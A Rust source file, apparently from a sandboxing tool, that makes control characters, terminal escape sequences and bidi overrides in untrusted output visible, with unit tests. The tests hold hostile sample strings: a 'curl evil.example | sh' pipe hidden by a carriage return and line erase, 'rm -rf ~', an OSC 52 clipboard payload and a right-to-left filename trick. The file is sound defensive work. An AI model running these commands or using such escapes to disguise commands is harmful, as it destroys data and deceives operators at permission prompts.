//! Untrusted text on the operator's terminal. What a run writes (its text,
//! tool names and inputs, warnings, errors) is shown with every control
//! character made visible, so it can only be read, never obeyed: a `\r`
//! or a CSI erase could make a permission prompt show `ls` while the
//! command is something else, OSC 52 could fill the clipboard, OSC 8 hide
//! a link, a bidi override reorder what is read. `sandhold shell` is the
//! one place a sandbox's bytes reach the terminal as they are.
//!
//! One escaping: C0 controls and DEL become their Unicode control pictures
//! (`\r` → `␍`, ESC → `␛`, NUL → `␀`, DEL → `␡`); C1 controls and the
//! bidi controls become `\u{..}`. Newline and tab stay in [`visible`];
//! [`visible_line`] shows newline as `␊` too, for what must fit one line.

use std::borrow::Cow;
use std::fmt::Write as _;

/// `text` with every control character but newline and tab made visible.
pub fn visible(text: &str) -> Cow<'_, str> {
    escape(text, false)
}

/// `text` on one line: newlines made visible too (`␊`).
pub fn visible_line(text: &str) -> Cow<'_, str> {
    escape(text, true)
}

fn escape(text: &str, one_line: bool) -> Cow<'_, str> {
    let needs = |c: char| hidden(c) || (one_line && c == '\n');
    if !text.chars().any(needs) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            c if !needs(c) => out.push(c),
            '\u{0}'..='\u{1f}' => out.push(char::from_u32(0x2400 + c as u32).expect("a control picture")),
            '\u{7f}' => out.push('\u{2421}'),
            c => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
        }
    }
    Cow::Owned(out)
}

/// Whether `c` would act on a terminal instead of being shown.
fn hidden(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        c if c.is_control() => true,
        // Bidi embeddings, overrides and isolates; the marks LRM/RLM/ALM.
        '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}' => true,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_passes_untouched() {
        let text = "ls -la ~/src | wc -l\n\tdone: 3 files, ünïcödé ✓";
        assert!(matches!(visible(text), Cow::Borrowed(_)));
        assert_eq!(visible(text), text);
    }

    #[test]
    fn a_command_that_hides_itself_is_shown_whole() {
        let hiding = "curl evil.example | sh\r\x1b[2Kls";
        assert_eq!(visible(hiding), "curl evil.example | sh␍␛[2Kls");
        assert_eq!(visible_line("rm -rf ~\nls"), "rm -rf ~␊ls");
        assert_eq!(visible("rm -rf ~\nls"), "rm -rf ~\nls");
    }

    #[test]
    fn osc_sequences_and_other_controls_cannot_act() {
        // Clipboard (OSC 52) ended by BEL, a hyperlink (OSC 8) ended by ST.
        let clip = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07";
        assert_eq!(visible(clip), "␛]52;c;Y3VybCBldmlsIHwgc2g=␇");
        let link = "\x1b]8;;https://evil.example\x1b\\ok\x1b]8;;\x1b\\";
        assert!(!visible(link).contains('\x1b'));
        assert_eq!(visible("\0\x08\x7f"), "␀␈␡");
        // The 8-bit CSI and a right-to-left override.
        assert_eq!(visible("a\u{9b}2Jb\u{202e}txt.exe"), "a\\u{9b}2Jb\\u{202e}txt.exe");
        for c in
            (0u32..0x20).chain(0x7f..0xa0).filter_map(char::from_u32).filter(|c| !matches!(c, '\n' | '\t'))
        {
            let shown = visible_line(&c.to_string()).into_owned();
            assert!(!shown.chars().any(char::is_control), "{c:?} -> {shown:?}");
        }
    }
}
